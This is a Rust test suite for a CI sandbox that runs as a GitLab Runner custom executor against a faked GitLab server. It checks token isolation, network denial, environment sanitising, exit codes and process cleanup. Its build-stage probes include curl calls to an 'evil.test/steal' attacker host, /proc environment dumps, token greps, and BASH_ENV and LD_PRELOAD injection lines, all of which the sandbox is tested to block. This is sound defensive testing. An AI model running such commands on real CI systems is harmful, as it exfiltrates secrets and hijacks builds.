//! `stepjail gitlab`, driven the way GitLab Runner's Custom executor drives it
//! (gitlabhq/gitlab-runner `docs/executors/custom.md`, `executors/custom/custom.go`,
//! `executors/custom/command/command.go`): `config`, `prepare`, `run <script> <stage>` for each
//! stage in the runner's order, `cleanup`; the job's variables as `CUSTOM_ENV_*`, the job
//! response in `JOB_RESPONSE_FILE`, `BUILD_FAILURE_EXIT_CODE`, `SYSTEM_FAILURE_EXIT_CODE`,
//! `BUILD_EXIT_CODE_FILE`, `TMPDIR`; stage scripts shaped as `shells/bash.go` writes them
//! (every variable exported inside one `eval $'...'`).
//!
//! GitLab itself is faked inside the test's network namespace (tests/fixtures/fake_gitlab.py):
//! git over HTTP (basic auth with the job token), a cache and an artifact API (`JOB-TOKEN`),
//! a registry the build may reach, and an attacker it may not.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use common::inet::{Internet, needs_root};
use common::{Dir, Out, bin, chown, users};

const TOKEN: &str = "glcbt-64_TESTjobTOKEN0123456789abcd";
const DEPLOY: &str = "deploy-key-SECRET-4242";
const OTHER: &str = "other-secret-NOTDECLARED-99";

/// The runner's fixed exit codes (`executors/custom/command/command.go`).
const BUILD_FAILURE: i32 = 1;
const SYSTEM_FAILURE: i32 = 2;

/// `helpers.ShellEscape` (gitlab-runner `helpers/shell_escape.go`).
fn esc(s: &str) -> String {
    if s.is_empty() {
        return "''".into();
    }
    let mut out = String::new();
    let mut quote = false;
    for &c in s.as_bytes() {
        match c {
            b'\n' => out.push_str("\\n"),
            b'\t' => out.push_str("\\t"),
            b'\'' => out.push_str("\\'"),
            b'\\' => out.push_str("\\\\"),
            c if c.is_ascii_alphanumeric() || b",-./@_".contains(&c) => {
                out.push(c as char);
                continue;
            }
            c if c.is_ascii_graphic() || c == b' ' => out.push(c as char),
            c => out.push_str(&format!("\\x{c:02x}")),
        }
        quote = true;
    }
    if quote { format!("$'{out}'") } else { out }
}

struct GitLab {
    net: Internet,
    logs: PathBuf,
    _logdir: tempfile::TempDir,
    server: Child,
}

impl GitLab {
    fn new(repos: &Path) -> GitLab {
        let net = Internet::new();
        for a in [
            "192.0.2.20/32",
            "192.0.2.21/32",
            "192.0.2.22/32",
            "192.0.2.54/32",
        ] {
            let ok = Command::new("ip")
                .args(["-n", &net.ns, "addr", "add", a, "dev", "lo"])
                .status()
                .unwrap();
            assert!(ok.success());
        }
        let logdir = tempfile::Builder::new()
            .prefix("sjgl-")
            .tempdir_in("/var/tmp")
            .unwrap();
        let logs = logdir.path().to_path_buf();
        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/fake_gitlab.py");
        let server = Command::new("ip")
            .args(["netns", "exec", &net.ns, "/usr/bin/python3", script])
            .args([logs.to_str().unwrap(), repos.to_str().unwrap(), TOKEN])
            .stdout(Stdio::null())
            .spawn()
            .unwrap();
        let start = Instant::now();
        while !logs.join("ready").exists() {
            assert!(
                start.elapsed() < Duration::from_secs(20),
                "fake GitLab did not start"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
        GitLab {
            net,
            logs,
            _logdir: logdir,
            server,
        }
    }

    fn log(&self, name: &str) -> String {
        std::fs::read_to_string(self.logs.join(name)).unwrap_or_default()
    }
}

impl Drop for GitLab {
    fn drop(&mut self) {
        let _ = self.server.kill();
        let _ = self.server.wait();
    }
}

fn git(dir: &Path, args: &[&str]) {
    let out = Command::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t.test",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", dir)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A bare repository `<root>/repos/<name>.git` with a README and, if given, the
/// repository's own `.gitlab/stepjail.yml`.
fn make_repo(root: &Path, name: &str, repo_policy: Option<&str>) {
    let work = root.join(format!("src-{name}"));
    std::fs::create_dir_all(&work).unwrap();
    std::fs::write(work.join("README"), format!("project {name}\n")).unwrap();
    if let Some(p) = repo_policy {
        std::fs::create_dir_all(work.join(".gitlab")).unwrap();
        std::fs::write(work.join(".gitlab/stepjail.yml"), p).unwrap();
    }
    git(&work, &["init", "-q"]);
    git(&work, &["add", "-A"]);
    git(&work, &["commit", "-q", "-m", "initial"]);
    let bare = root.join("repos").join(format!("{name}.git"));
    std::fs::create_dir_all(bare.parent().unwrap()).unwrap();
    git(
        root,
        &[
            "clone",
            "-q",
            "--bare",
            work.to_str().unwrap(),
            bare.to_str().unwrap(),
        ],
    );
    git(&bare, &["update-server-info"]);
}

/// The operator's side: policy file and profile, owned by the runner's user.
fn operator_policy(dir: &Dir, repository_policy: &str) -> PathBuf {
    operator_policy_for(dir, repository_policy, None)
}

/// [`operator_policy`] with `user:` (the account a root runner runs stages as).
fn operator_policy_for(dir: &Dir, repository_policy: &str, user: Option<&str>) -> PathBuf {
    let user = user.map(|u| format!("user: {u}\n")).unwrap_or_default();
    let root = dir.root.display();
    dir.write(
        "etc/build.yml",
        "name: app-build\ndescription: the app's build, its registry only\nextends: default\nnetwork:\n  allow: [registry.test:80]\n",
    );
    dir.write(
        "etc/gitlab.yml",
        &format!(
            "version: 1\ngitlab_url: http://gitlab.test\nbuilds_dir: {root}/builds\ncache_dir: {root}/cache\nstate_dir: {root}/state\naudit_dir: {root}/audit\nresolver: 192.0.2.54:53\n{user}repository_policy: {repository_policy}\ndefault: {{ profile: offline }}\nprojects:\n  group/app: &app\n    jobs:\n      test: {{ profile: {root}/etc/build.yml, variables: [DEPLOY_KEY] }}\n  group/widen: *app\n  group/narrow: *app\n"
        ),
    )
}

/// One job as GitLab Runner runs it through the custom executor.
struct Job<'a> {
    dir: &'a Dir,
    gl: &'a GitLab,
    policy: PathBuf,
    id: i64,
    project: String,
    /// The runner's temporary directory (`os.MkdirTemp("", "custom-executor")`).
    tmp: PathBuf,
    response: PathBuf,
    exit_file: PathBuf,
    vars: Vec<(String, String, bool, bool)>,
    codes: (i32, i32),
    scripts: u32,
}

impl<'a> Job<'a> {
    fn new(dir: &'a Dir, gl: &'a GitLab, policy: PathBuf, id: i64, project: &str) -> Job<'a> {
        let tmp = dir.root.join(format!("runner-tmp/custom-executor{id}"));
        std::fs::create_dir_all(&tmp).unwrap();
        chown(&dir.root.join("runner-tmp"), dir.owner);
        chown(&tmp, dir.owner);
        let builds = dir.root.join("builds").join(id.to_string());
        let project_dir = builds.join(project);
        let repo_url = format!("http://gitlab-ci-token:{TOKEN}@gitlab.test/{project}.git");
        let v = |k: &str, val: &str, public: bool, masked: bool| {
            (k.to_string(), val.to_string(), public, masked)
        };
        let vars = vec![
            v("CI_JOB_TOKEN", TOKEN, false, true),
            v("CI_REGISTRY_PASSWORD", TOKEN, false, true),
            v("CI_REPOSITORY_URL", &repo_url, false, false),
            v("CI_JOB_ID", &id.to_string(), true, false),
            v("CI_JOB_NAME", "test", true, false),
            v("CI_PROJECT_PATH", project, true, false),
            v("CI_PROJECT_DIR", project_dir.to_str().unwrap(), true, false),
            v("CI_BUILDS_DIR", builds.to_str().unwrap(), true, false),
            v("CI_API_V4_URL", "http://gitlab.test/api/v4", true, false),
            v("CI_SERVER_URL", "http://gitlab.test", true, false),
            v("DEPLOY_KEY", DEPLOY, false, true),
            v("OTHER_SECRET", OTHER, false, true),
            v("PLAIN_VAR", "plain value", true, false),
        ];
        let response = tmp.join("response.json");
        let json = serde_json::json!({
            "id": id,
            "token": TOKEN,
            "allow_git_fetch": true,
            "job_info": {"name": "test", "stage": "test", "project_id": 1, "project_name": "app", "project_full_path": project},
            "git_info": {"repo_url": repo_url, "ref": "main", "sha": "0", "depth": 20},
            "variables": vars.iter().map(|(k, val, public, masked)| serde_json::json!({"key": k, "value": val, "public": public, "masked": masked, "file": false, "raw": false})).collect::<Vec<_>>(),
        });
        std::fs::write(&response, json.to_string()).unwrap();
        std::fs::set_permissions(
            &response,
            std::os::unix::fs::PermissionsExt::from_mode(0o600),
        )
        .unwrap();
        chown(&response, dir.owner);
        Job {
            dir,
            gl,
            policy,
            id,
            project: project.to_string(),
            exit_file: tmp.join("build_exit_code"),
            tmp,
            response,
            vars,
            codes: (BUILD_FAILURE, SYSTEM_FAILURE),
            scripts: 0,
        }
    }

    fn project_dir(&self) -> PathBuf {
        self.dir
            .root
            .join("builds")
            .join(self.id.to_string())
            .join(&self.project)
    }

    fn command(&self, args: &[&str]) -> Command {
        let mut cmd = Command::new("ip");
        cmd.args(["netns", "exec", &self.gl.net.ns]);
        if self.dir.owner != 0 {
            let id = self.dir.owner.to_string();
            cmd.args(["setpriv", "--reuid", &id, "--regid", &id, "--clear-groups"]);
        }
        cmd.arg(bin())
            .arg("gitlab")
            .args(args)
            .env_clear()
            .env("PATH", "/usr/local/bin:/usr/bin:/bin")
            .env("HOME", &self.dir.home)
            .env("STEPJAIL_GITLAB_POLICY", &self.policy)
            .env("TMPDIR", &self.tmp)
            .env("BUILD_FAILURE_EXIT_CODE", self.codes.0.to_string())
            .env("SYSTEM_FAILURE_EXIT_CODE", self.codes.1.to_string())
            .env("BUILD_EXIT_CODE_FILE", &self.exit_file)
            .env("JOB_RESPONSE_FILE", &self.response)
            .current_dir(&self.tmp)
            .stdin(Stdio::null());
        for (k, v, _, _) in &self.vars {
            cmd.env(format!("CUSTOM_ENV_{k}"), v);
        }
        cmd
    }

    fn call(&self, args: &[&str]) -> Out {
        Out(self.command(args).output().unwrap())
    }

    /// Writes a stage script as `shells/bash.go` does: every variable exported, then `body`.
    fn script(&mut self, body: &str) -> PathBuf {
        self.scripts += 1;
        let mut inner = String::new();
        for (k, v, _, _) in &self.vars {
            inner.push_str(&format!("export {}={}\n", esc(k), esc(v)));
        }
        inner.push_str(body);
        let text = format!(
            "#!/usr/bin/env bash\n\ntrap exit 1 TERM\n\ncase \"$(set -o)\" in *\"pipefail\"*) set -o pipefail;; esac; set -o errexit\nset +o noclobber\n(trap exit 1 TERM; eval {}) < /dev/null\nexit 0\n",
            esc(&inner)
        );
        let d = self.tmp.join(format!("script{}", self.scripts));
        std::fs::create_dir_all(&d).unwrap();
        chown(&d, self.dir.owner);
        let p = d.join("script.");
        std::fs::write(&p, text).unwrap();
        std::fs::set_permissions(&p, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
        chown(&p, self.dir.owner);
        p
    }

    fn stage(&mut self, stage: &str, body: &str) -> Out {
        let p = self.script(body);
        self.call(&["run", p.to_str().unwrap(), stage])
    }

    fn audit(&self) -> Vec<serde_json::Value> {
        let text = std::fs::read_to_string(self.dir.root.join(format!("audit/{}.jsonl", self.id)))
            .unwrap_or_default();
        text.lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }
}

fn show(o: &Out) -> String {
    format!(
        "code {}\nstdout:\n{}\nstderr:\n{}",
        o.code(),
        o.stdout(),
        o.stderr()
    )
}

fn assert_code(o: &Out, code: i32) {
    assert_eq!(o.code(), code, "{}", show(o));
}

/// Every process whose command line contains `marker`.
fn processes_with(marker: &str) -> Vec<String> {
    let mut found = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let name = e.file_name();
        let Some(pid) = name
            .to_str()
            .filter(|s| s.chars().all(|c| c.is_ascii_digit()))
        else {
            continue;
        };
        if let Ok(cmd) = std::fs::read(format!("/proc/{pid}/cmdline")) {
            let cmd = String::from_utf8_lossy(&cmd).replace('\0', " ");
            if cmd.contains(marker) {
                found.push(format!("{pid}: {cmd}"));
            }
        }
    }
    found
}

fn children_of(pid: u32) -> Vec<u32> {
    let mut found = Vec::new();
    for t in std::fs::read_dir(format!("/proc/{pid}/task"))
        .unwrap()
        .flatten()
    {
        let list = std::fs::read_to_string(t.path().join("children")).unwrap();
        found.extend(list.split_whitespace().map(|c| c.parse::<u32>().unwrap()));
    }
    found
}

/// The resident memory of the processes whose command line holds `marker`.
fn rss_kib(marker: &str) -> u64 {
    processes_with(marker)
        .iter()
        .filter_map(|p| {
            let pid = p.split(':').next()?;
            let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
            let line = status.lines().find(|l| l.starts_with("VmRSS:"))?;
            line.split_whitespace().nth(1)?.parse::<u64>().ok()
        })
        .sum()
}

/// Whether `pid` is there and not a zombie.
fn alive(pid: u32) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|stat| {
        let state = stat.rfind(')').and_then(|i| stat.get(i + 2..i + 3));
        !matches!(state, Some("Z" | "X") | None)
    })
}

/// The whole job, stage by stage in the runner's order, with each security property checked.
#[test]
fn a_job_runs_stage_by_stage_and_the_token_reaches_only_git_cache_and_artifacts() {
    if !needs_root() {
        return;
    }
    // Root, root running stages as `user: nobody`, and an unprivileged runner.
    let mut runs: Vec<(u32, Option<&str>)> = users().into_iter().map(|u| (u, None)).collect();
    if common::is_root() {
        runs.push((0, Some("nobody")));
    }
    for (uid, user) in runs {
        let dir = Dir::new(uid);
        make_repo(&dir.root, "app", None);
        let gl = GitLab::new(&dir.root.join("repos"));
        let policy = operator_policy_for(&dir, "ignore", user);
        let id = 4100 + uid as i64 + if user.is_some() { 1 } else { 0 };
        let mut job = Job::new(&dir, &gl, policy, id, "group/app");

        // config_exec: JSON on stdout (executors/custom/api/config.go).
        let o = job.call(&["config"]);
        assert_code(&o, 0);
        let cfg: serde_json::Value = serde_json::from_str(o.stdout().trim()).unwrap();
        assert_eq!(
            cfg["builds_dir"],
            dir.root
                .join(format!("builds/{}", job.id))
                .to_str()
                .unwrap()
        );
        assert_eq!(cfg["builds_dir_is_shared"], false);
        assert_eq!(cfg["driver"]["name"], "stepjail");

        let o = job.call(&["prepare"]);
        assert_code(&o, 0);
        assert!(o.stdout().contains("build.yml"), "{}", show(&o));

        assert_code(
            &job.stage("prepare_script", "echo \"Running on $(hostname)...\"\n"),
            0,
        );

        let o = job.stage(
            "get_sources",
            "export GIT_TERMINAL_PROMPT=0\ngit clone -q \"$CI_REPOSITORY_URL\" \"$CI_PROJECT_DIR\"\ncat \"$CI_PROJECT_DIR/README\"\necho \"sources: other=${OTHER_SECRET:-unset}\"\n",
        );
        assert_code(&o, 0);
        assert!(o.stdout().contains("project app"), "{}", show(&o));
        assert!(o.stdout().contains("sources: other=unset"), "{}", show(&o));

        let o = job.stage(
            "restore_cache",
            "curl -sf -m 10 -H \"JOB-TOKEN: $CI_JOB_TOKEN\" http://gitlab.test/cache/app-key -o /dev/null || echo 'no cache yet'\n",
        );
        assert_code(&o, 0);
        assert!(o.stdout().contains("no cache yet"), "{}", show(&o));

        let o = job.stage(
            "download_artifacts",
            "curl -sf -m 10 -H \"JOB-TOKEN: $CI_JOB_TOKEN\" \"$CI_API_V4_URL/jobs/1/artifacts\" -o /dev/null || echo 'no artifacts'\ncurl -sf -m 10 http://evil.test/steal -o /dev/null && echo EVIL-FROM-TRANSFER || echo evil-denied-in-transfer\n",
        );
        assert_code(&o, 0);
        assert!(
            o.stdout().contains("evil-denied-in-transfer"),
            "{}",
            show(&o)
        );

        // The build: the runner passes step_script as build_script (executors/custom/custom.go).
        let response = job.response.display().to_string();
        let tmp = job.tmp.display().to_string();
        let state = dir.root.join("state").display().to_string();
        let body = format!(
            r#"echo "deploy=$DEPLOY_KEY"
echo "other=${{OTHER_SECRET:-unset}} token=${{CI_JOB_TOKEN:-unset}} registry=${{CI_REGISTRY_PASSWORD:-unset}} url=${{CI_REPOSITORY_URL:-unset}}"
echo "plain=$PLAIN_VAR"
env > "$CI_PROJECT_DIR/probe-env.txt"
cat /tmp/stepjail-gitlab-stage.sh > "$CI_PROJECT_DIR/probe-script.txt"
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline > "$CI_PROJECT_DIR/probe-proc.txt" 2>/dev/null || true
{{ cat {response} || echo response-unreadable; ls {tmp} || echo tmp-unreadable; ls {state} || echo state-unreadable; }} > "$CI_PROJECT_DIR/probe-files.txt" 2>&1
grep -rs -l -F TESTjobTOKEN01 "$CI_BUILDS_DIR" /tmp "$HOME" > "$CI_PROJECT_DIR/probe-grep.txt" 2>/dev/null || true
curl -s -m 10 http://registry.test/
mkdir -p "$CI_PROJECT_DIR.tmp" && printf 'BASH_ENV=/x/evil.sh\nGOOD_VAR=1\n' >> "$CI_PROJECT_DIR.tmp/gitlab_runner_env"
curl -sf -m 10 http://evil.test/steal && echo EVIL-REACHED || echo evil-denied
curl -sf -m 10 http://gitlab.test/api/v4/jobs/1/artifacts && echo GITLAB-REACHED || echo gitlab-denied
"#
        );
        let body = format!("echo \"uid=$(id -u)\"\n{body}");
        let o = job.stage("build_script", &body);
        assert_code(&o, 0);
        let want = if user.is_some() { common::NOBODY } else { uid };
        assert!(
            o.stdout().contains(&format!("uid={want}\n")),
            "{}",
            show(&o)
        );
        let out = o.stdout();
        assert!(
            out.contains("deploy=***"),
            "masked variable not masked: {}",
            show(&o)
        );
        assert!(!out.contains(DEPLOY), "{}", show(&o));
        assert!(
            out.contains("other=unset token=unset registry=unset url=unset"),
            "{}",
            show(&o)
        );
        assert!(out.contains("plain=plain value"), "{}", show(&o));
        assert!(out.contains("registry ok"), "{}", show(&o));
        assert!(out.contains("evil-denied"), "{}", show(&o));
        assert!(out.contains("gitlab-denied"), "{}", show(&o));
        assert!(
            o.stderr()
                .contains("build_script: denied connection to evil.test:80"),
            "denial not in the job log: {}",
            show(&o)
        );
        // Written to GITLAB_ENV for later stages (the token's among them): sanitised.
        assert!(
            o.stderr().contains("removed BASH_ENV from GITLAB_ENV"),
            "{}",
            show(&o)
        );
        let pd = job.project_dir();
        let genv =
            std::fs::read_to_string(pd.with_extension("tmp").join("gitlab_runner_env")).unwrap();
        assert_eq!(genv, "GOOD_VAR=1\n");
        for probe in [
            "probe-env.txt",
            "probe-script.txt",
            "probe-proc.txt",
            "probe-files.txt",
            "probe-grep.txt",
        ] {
            let text = std::fs::read_to_string(pd.join(probe)).unwrap();
            assert!(
                !text.contains(TOKEN),
                "the job token is in the build's {probe}:\n{text}"
            );
            assert!(
                !text.contains(OTHER),
                "an undeclared secret is in the build's {probe}"
            );
        }
        // Files the build can read that hold (part of) the token: only the ones holding this
        // script's own grep pattern (the git configuration get_sources left has been scrubbed).
        let grep = std::fs::read_to_string(pd.join("probe-grep.txt")).unwrap();
        let holders: Vec<&str> = grep
            .lines()
            .filter(|l| !l.ends_with("/probe-script.txt") && *l != "/tmp/stepjail-gitlab-stage.sh")
            .collect();
        assert_eq!(
            holders,
            Vec::<&str>::new(),
            "files the build can read hold the job token"
        );
        let config = std::fs::read_to_string(pd.join(".git/config")).unwrap();
        assert!(
            config.contains("url = http://gitlab.test/group/app.git"),
            "{config}"
        );
        let files = std::fs::read_to_string(pd.join("probe-files.txt")).unwrap();
        for what in ["response-unreadable", "tmp-unreadable", "state-unreadable"] {
            assert!(files.contains(what), "{what}: {files}");
        }
        let script = std::fs::read_to_string(pd.join("probe-script.txt")).unwrap();
        assert!(
            script.contains("PLAIN_VAR") && script.contains("eval $'"),
            "{script}"
        );

        assert_code(
            &job.stage("after_script", "echo after: ${CI_JOB_TOKEN:-no-token}\n"),
            0,
        );

        let o = job.stage(
            "archive_cache",
            "echo cached > \"$CI_PROJECT_DIR/../cache-file\"\ncurl -sf -m 10 -T \"$CI_PROJECT_DIR/../cache-file\" -H \"JOB-TOKEN: $CI_JOB_TOKEN\" http://gitlab.test/cache/app-key\n",
        );
        assert_code(&o, 0);
        let o = job.stage(
            "upload_artifacts_on_success",
            "curl -sf -m 10 -T \"$CI_PROJECT_DIR/README\" -H \"JOB-TOKEN: $CI_JOB_TOKEN\" \"$CI_API_V4_URL/jobs/$CI_JOB_ID/artifacts\"\n",
        );
        assert_code(&o, 0);
        assert_code(&job.stage("cleanup_file_variables", "true\n"), 0);

        // What GitLab saw: git and the APIs with the token, the attacker nothing.
        let seen = gl.log("gitlab.log");
        assert!(
            seen.contains("GET /group/app.git/info/refs auth=ok"),
            "{seen}"
        );
        assert!(seen.contains("PUT /cache/app-key auth=ok"), "{seen}");
        assert!(
            seen.contains(&format!("PUT /api/v4/jobs/{}/artifacts auth=ok", job.id)),
            "{seen}"
        );
        assert!(!seen.contains("auth=bad"), "{seen}");
        assert_eq!(gl.log("evil.log"), "");

        // One audit log for the job; the denial is in it, with the stage.
        let events = job.audit();
        let denied: Vec<_> = events
            .iter()
            .filter(|e| {
                e["event"] == "connect" && e["decision"] == "deny" && e["dest_name"] == "evil.test"
            })
            .collect();
        assert_eq!(denied.len(), 2, "{events:#?}");
        let starts: Vec<_> = events
            .iter()
            .filter(|e| e["event"] == "step_start")
            .map(|e| e["ci_step"].as_str().unwrap_or("").to_string())
            .collect();
        assert_eq!(
            starts,
            [
                "prepare_script",
                "get_sources",
                "restore_cache",
                "download_artifacts",
                "build_script",
                "after_script",
                "archive_cache",
                "upload_artifacts_on_success",
                "cleanup_file_variables"
            ]
        );

        assert_code(&job.call(&["cleanup"]), 0);
        assert!(!dir.root.join(format!("state/{}", job.id)).exists());
        assert!(!dir.root.join(format!("builds/{}", job.id)).exists());
    }
}

/// A failing script exits BUILD_FAILURE_EXIT_CODE with its own code in BUILD_EXIT_CODE_FILE;
/// stepjail's own failures exit SYSTEM_FAILURE_EXIT_CODE. The values come from the variables.
#[test]
fn exit_codes_map_to_build_and_system_failure() {
    if !needs_root() {
        return;
    }
    for uid in users() {
        let dir = Dir::new(uid);
        make_repo(&dir.root, "app", None);
        let gl = GitLab::new(&dir.root.join("repos"));
        let policy = operator_policy(&dir, "ignore");
        let mut job = Job::new(&dir, &gl, policy.clone(), 4200 + uid as i64, "group/app");
        job.codes = (77, 78);
        // Before prepare: no frozen state, a system failure.
        assert_code(&job.stage("build_script", "true\n"), 78);
        assert_code(&job.call(&["prepare"]), 0);
        let o = job.stage(
            "build_script",
            "mkdir -p \"$CI_PROJECT_DIR.tmp\"\necho LD_PRELOAD=/x/evil.so >> \"$CI_PROJECT_DIR.tmp/gitlab_runner_env\"\necho failing; exit 3\n",
        );
        assert_code(&o, 77);
        // A failed stage's GITLAB_ENV is sanitised too: after_script and the *_on_failure
        // stages read it.
        assert!(
            o.stderr().contains("removed LD_PRELOAD from GITLAB_ENV"),
            "{}",
            show(&o)
        );
        assert_eq!(std::fs::read_to_string(&job.exit_file).unwrap().trim(), "3");
        assert_code(&job.stage("build_script", "true\n"), 0);
        // A stage stepjail does not know, and a script the runner did not write.
        let o = job.stage("some_future_stage", "true\n");
        assert_code(&o, 78);
        assert!(
            o.stderr().contains("unknown stage `some_future_stage`"),
            "{}",
            show(&o)
        );
        let raw = dir.write("raw.sh", "#!/bin/bash\necho $CUSTOM_ENV_CI_JOB_TOKEN\n");
        let o = job.call(&["run", raw.to_str().unwrap(), "build_script"]);
        assert_code(&o, 78);
        assert!(!o.stdout().contains(TOKEN));
        // A broken operator policy: the error names file, line and column.
        std::fs::write(
            &policy,
            std::fs::read_to_string(&policy).unwrap() + "defualt: {}\n",
        )
        .unwrap();
        let o = job.call(&["config"]);
        assert_code(&o, 78);
        assert!(
            o.stderr().contains(&format!("{}:16:1", policy.display()))
                && o.stderr().contains("defualt"),
            "{}",
            show(&o)
        );
    }
}

/// The repository's own `.gitlab/stepjail.yml` may take away, never add; and only when the
/// operator says so.
#[test]
fn the_repository_policy_narrows_but_cannot_loosen_the_operators() {
    if !needs_root() {
        return;
    }
    for uid in users() {
        let dir = Dir::new(uid);
        make_repo(
            &dir.root,
            "widen",
            Some("version: 1\njobs:\n  test: { variables: [DEPLOY_KEY, OTHER_SECRET] }\n"),
        );
        make_repo(
            &dir.root,
            "narrow",
            Some("version: 1\njobs:\n  test: { network: none, variables: [] }\n"),
        );
        let gl = GitLab::new(&dir.root.join("repos"));
        let build = "echo \"other=${OTHER_SECRET:-unset} deploy=${DEPLOY_KEY:-unset}\"\ncurl -sf -m 10 http://registry.test/ || echo registry-unreachable\n";
        let sources = "export GIT_TERMINAL_PROMPT=0\ngit clone -q \"$CI_REPOSITORY_URL\" \"$CI_PROJECT_DIR\"\n";
        for mode in ["narrow", "ignore"] {
            let policy = operator_policy(&dir, mode);
            let base = 4300 + uid as i64 * 10 + if mode == "narrow" { 0 } else { 5 };

            // Asking for a variable the operator did not give the job.
            let mut job = Job::new(&dir, &gl, policy.clone(), base, "group/widen");
            assert_code(&job.call(&["prepare"]), 0);
            let o = job.stage("get_sources", sources);
            if mode == "narrow" {
                assert_code(&o, BUILD_FAILURE);
                assert!(
                    o.stderr().contains(".gitlab/stepjail.yml")
                        && o.stderr().contains("a repository cannot add any"),
                    "{}",
                    show(&o)
                );
            } else {
                assert_code(&o, 0);
                let o = job.stage("build_script", build);
                assert_code(&o, 0);
                assert!(
                    o.stdout().contains("other=unset deploy=***"),
                    "{}",
                    show(&o)
                );
            }
            assert_code(&job.call(&["cleanup"]), 0);

            // Taking the network and the variable away.
            let mut job = Job::new(&dir, &gl, policy.clone(), base + 1, "group/narrow");
            assert_code(&job.call(&["prepare"]), 0);
            assert_code(&job.stage("get_sources", sources), 0);
            let o = job.stage("build_script", build);
            assert_code(&o, 0);
            if mode == "narrow" {
                assert!(
                    o.stdout().contains("other=unset deploy=unset"),
                    "{}",
                    show(&o)
                );
                assert!(o.stdout().contains("registry-unreachable"), "{}", show(&o));
            } else {
                assert!(
                    o.stdout().contains("other=unset deploy=***"),
                    "{}",
                    show(&o)
                );
                assert!(o.stdout().contains("registry ok"), "{}", show(&o));
            }
            assert_code(&job.call(&["cleanup"]), 0);
        }
    }
}

/// Nothing a stage started outlives it, and `cleanup` ends a stage the runner gave up on.
#[test]
fn no_process_is_left_after_a_stage_or_after_cleanup() {
    if !needs_root() {
        return;
    }
    for uid in users() {
        let dir = Dir::new(uid);
        make_repo(&dir.root, "app", None);
        let gl = GitLab::new(&dir.root.join("repos"));
        let policy = operator_policy(&dir, "ignore");
        let mut job = Job::new(&dir, &gl, policy, 4400 + uid as i64, "group/app");
        assert_code(&job.call(&["prepare"]), 0);
        let m1 = format!("98765{uid}1");
        let o = job.stage(
            "build_script",
            &format!("setsid nohup sleep {m1} >/dev/null 2>&1 &\necho started\n"),
        );
        assert_code(&o, 0);
        assert_eq!(processes_with(&format!("sleep {m1}")), Vec::<String>::new());

        // A cancelled job: SIGTERM to run_exec's process group (docs/executors/custom.md,
        // "Terminating and killing executables"). The stage ends, as a build failure, and
        // takes everything it started with it.
        let m3 = format!("98765{uid}3");
        let p = job.script(&format!(
            "setsid nohup sleep {m3}1 >/dev/null 2>&1 &\nsleep {m3}\n"
        ));
        let mut child = {
            use std::os::unix::process::CommandExt;
            job.command(&["run", p.to_str().unwrap(), "build_script"])
                .process_group(0)
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap()
        };
        let start = Instant::now();
        while processes_with(&format!("sleep {m3}")).len() < 2 {
            assert!(
                start.elapsed() < Duration::from_secs(20),
                "the stage did not start"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        let pgid = nix::unistd::Pid::from_raw(-(child.id() as i32));
        nix::sys::signal::kill(pgid, nix::sys::signal::Signal::SIGTERM).unwrap();
        let start = Instant::now();
        let status = loop {
            if let Some(s) = child.try_wait().unwrap() {
                break s;
            }
            assert!(
                start.elapsed() < Duration::from_secs(10),
                "run_exec ignored SIGTERM"
            );
            std::thread::sleep(Duration::from_millis(20));
        };
        assert_eq!(status.code(), Some(BUILD_FAILURE), "{status:?}");
        assert_eq!(processes_with(&format!("sleep {m3}")), Vec::<String>::new());

        // A stage still running when the runner calls cleanup (after its kill timeouts).
        let m2 = format!("98765{uid}2");
        // 2 GiB written by one process: its exit, and so the PID 1's (which waits for every
        // process of its namespace), takes a while after the supervisor's.
        let p = job.script(&format!(
            "setsid nohup sleep {m2}1 >/dev/null 2>&1 &\n\
             /usr/bin/python3 -c 'import time; b = b\"x\" * (2 << 30); time.sleep(1e6)' {m2}big &\n\
             sleep {m2}\n"
        ));
        let mut child = job
            .command(&["run", p.to_str().unwrap(), "build_script"])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let start = Instant::now();
        while processes_with(&format!("sleep {m2}")).len() < 2
            || rss_kib(&format!("{m2}big")) < 2 << 20
        {
            assert!(
                start.elapsed() < Duration::from_secs(20),
                "the stage did not start"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        // The sandbox's PID 1, run_exec's child: gone (or a zombie) when cleanup returns,
        // and with it every process of its PID namespace.
        let pid1 = children_of(child.id());
        assert_eq!(pid1.len(), 1, "{pid1:?}");
        assert_code(&job.call(&["cleanup"]), 0);
        assert!(!alive(pid1[0]), "the sandbox's PID 1 outlived cleanup");
        assert_eq!(processes_with(&format!("sleep {m2}")), Vec::<String>::new());
        let start = Instant::now();
        while child.try_wait().unwrap().is_none() {
            assert!(
                start.elapsed() < Duration::from_secs(10),
                "run_exec still running after cleanup"
            );
            std::thread::sleep(Duration::from_millis(20));
        }
        assert_eq!(processes_with(&format!("sleep {m2}")), Vec::<String>::new());
    }
}
